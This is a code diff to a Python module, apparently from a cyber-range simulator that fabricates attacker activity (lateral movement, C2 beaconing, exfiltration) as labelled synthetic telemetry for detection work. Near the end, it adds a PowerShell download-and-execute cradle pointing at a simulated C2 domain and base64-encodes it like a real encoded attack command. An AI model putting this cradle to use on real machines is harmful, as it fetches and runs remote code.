@@ -1,22 +1,31 @@
-"""Intrusion: an attacker at work, step by step. Owns the attacker's clock, infrastructure and the story told of it; what is done stands in `scenarios`."""
+"""Intrusion: an attacker at work. Owns the attacker's clock, infrastructure and the story told; what is done stands in `scenarios`."""
 
-from collections.abc import Iterator, Mapping, Sequence
+import base64
+from collections.abc import Generator, Mapping, Sequence
 from contextlib import contextmanager
 from dataclasses import dataclass, field
 from random import Random
 from typing import cast
 
-from watchkeeper.cyberrange import traffic, windows
+from watchkeeper.cyberrange import remote, traffic, windows
 from watchkeeper.cyberrange.company import Person
-from watchkeeper.cyberrange.machine import Machine
+from watchkeeper.cyberrange.machine import Machine, Seat
 from watchkeeper.cyberrange.recipe import Act, Playing, play
 from watchkeeper.cyberrange.remote import Errand, Way
 from watchkeeper.cyberrange.tables import entries, fill
 from watchkeeper.cyberrange.traffic import Flow, Site
-from watchkeeper.cyberrange.world import Desk, Seat, World
+from watchkeeper.cyberrange.world import Desk, World
 
 EARLIEST_SECONDS = 7200.0
 """No intrusion begins earlier in the day, if the day is long enough."""
+
+_WAYS: Mapping[Way, str] = {
+    remote.by_service: "T1569.002",
+    remote.by_wmi: "T1047",
+    remote.by_winrm: "T1021.006",
+    remote.by_task: "T1053.005",
+    remote.by_desktop: "T1021.001",
+}
 
 
 @dataclass(slots=True)
@@ -34,13 +43,13 @@ class Story:
     def told(self) -> dict[str, object]:
         """Give the story as plain data."""
         return {
-            "start": self.steps[0]["time"],
-            "end": self.steps[-1]["time"],
+            "start": min(step["time"] for step in self.steps),
+            "end": max(step["time"] for step in self.steps),
             "entry": self.entry,
             "attackers": {"addresses": self.addresses, "domains": self.domains},
             "hosts": self.hosts,
             "accounts": self.accounts,
-            "steps": self.steps,
+            "steps": sorted(self.steps, key=lambda step: step["time"]),
         }
 
 
@@ -64,11 +73,11 @@ class Intrusion:
         self.now += self.rng.uniform(self.pace / 8, self.pace)
 
     @contextmanager
-    def step(self, name: str, technique: str, machine: Machine, account: str) -> Iterator[None]:
+    def step(self, name: str, technique: str, machine: Machine, account: str, when: float | None = None) -> Generator[None]:
         """Do something that belongs to a step; it is told in the story and every record of it is marked."""
         self.story.steps.append({
             "step": name, "technique": technique, "host": machine.host.name.lower(), "user": account,
-            "time": windows.iso(self.world.journal.start, self.now),
+            "time": windows.iso(self.world.journal.start, self.now if when is None else when),
         })  # fmt: skip
         _once(self.story.hosts, machine.host.name.lower())
         _once(self.story.accounts, account)
@@ -95,55 +104,37 @@ class Intrusion:
 
     def move(self, way: Way, seat: Seat, target: Machine, errand: Errand) -> Seat:
         """Go to another machine."""
-        technique = {
-            "by_service": "T1569.002",
-            "by_wmi": "T1047",
-            "by_winrm": "T1021.006",
-            "by_task": "T1053.005",
-            "by_desktop": "T1021.001",
-        }[way.__name__]
         self.now += 8
-        with self.step("lateral-movement", technique, target, errand.person.account):
+        with self.step("lateral-movement", _WAYS[way], target, errand.person.account):
             there = way(self.world, seat, target, errand, self.now)
         self.now += 3
         self.pause()
         return there
 
+    def settle(self, seat: Seat) -> Seat:
+        """Run an implant on a machine just reached, and go on from it."""
+        return Seat(seat.machine, self.do("execution", "arrival", seat).process, seat.logon)
+
     def beacon(self, seat: Seat, start: float, end: float, count: int) -> None:
         """Have a process call home about so many times between two points in time, at an even pace with some jitter."""
         gap = (end - start) / count
-        with self.step("command-and-control", "T1071.001", seat.machine, seat.logon.account):
-            traffic.lookup(self.world.gateway, seat.machine, seat.process, self.control, start)
+        with self.step("command-and-control", "T1071.001", seat.machine, seat.logon.account, start):
+            traffic.lookup(self.world.gateway, seat, self.control, start)
             for number in range(count):
                 when = start + number * gap + self.rng.uniform(0, gap * 0.2)
-                flow = Flow(
-                    seat.machine.host.address,
-                    self.control.address,
-                    443,
-                    self.rng.randrange(420, 700),
-                    self.rng.randrange(300, 900),
-                    0.4,
-                    "ssl",
-                )
+                sizes = (self.rng.randrange(420, 700), self.rng.randrange(300, 900))
+                flow = Flow(seat.machine.host.address, self.control.address, 443, *sizes, 0.4, "ssl", opened=traffic.opened(self.rng))
                 self.world.gateway.tls(when, flow, self.control.name)
                 if number % 3 == 0:
-                    traffic.connect(seat.machine, seat.process, flow, when, self.control.name)
+                    traffic.connect(seat, flow, when, self.control.name)
 
     def upload(self, seat: Seat, site: Site, size: int, technique: str = "T1041") -> None:
         """Send so many bytes out to a site in a few connections."""
         parts = self.rng.randint(2, 5)
-        for _ in range(parts):
-            with self.step("exfiltration", technique, seat.machine, seat.logon.account):
-                traffic.visit(
-                    self.world.gateway,
-                    seat.machine,
-                    seat.process,
-                    site,
-                    self.now,
-                    sent=size // parts,
-                    received=self.rng.randrange(4000, 20_000),
-                )
-            self.now += self.rng.uniform(20, 90)
+        with self.step("exfiltration", technique, seat.machine, seat.logon.account):
+            for _ in range(parts):
+                traffic.visit(self.world.gateway, seat, site, self.now, size // parts, self.rng.randrange(4000, 20_000))
+                self.now += self.rng.uniform(20, 90)
         _once(self.story.domains, site.name)
 
     def begin(self, seat: Seat, process: str) -> None:
@@ -189,6 +180,8 @@ def intrude(world: World, rng: Random, actions: int) -> Intrusion:
     known = {"c2": control.name, "c2ip": control.address}
     for place in ("implant", "drop", "stage", "task", "payload", "note"):
         known[place] = fill(rng.choice([str(entry["text"]) for entry in entries("attack", place)]), dict(known), rng)
+    cradle = f"IEX (New-Object Net.WebClient).DownloadString('https://{control.name}/{known['payload']}.ps1')"
+    known["encoded"] = base64.b64encode(cradle.encode("utf-16-le")).decode()
     intrusion = Intrusion(world, rng, rng.uniform(earliest, latest), duration / actions * 1.75, control, known)
     intrusion.outside(control.address)
     intrusion.story.domains.append(control.name)
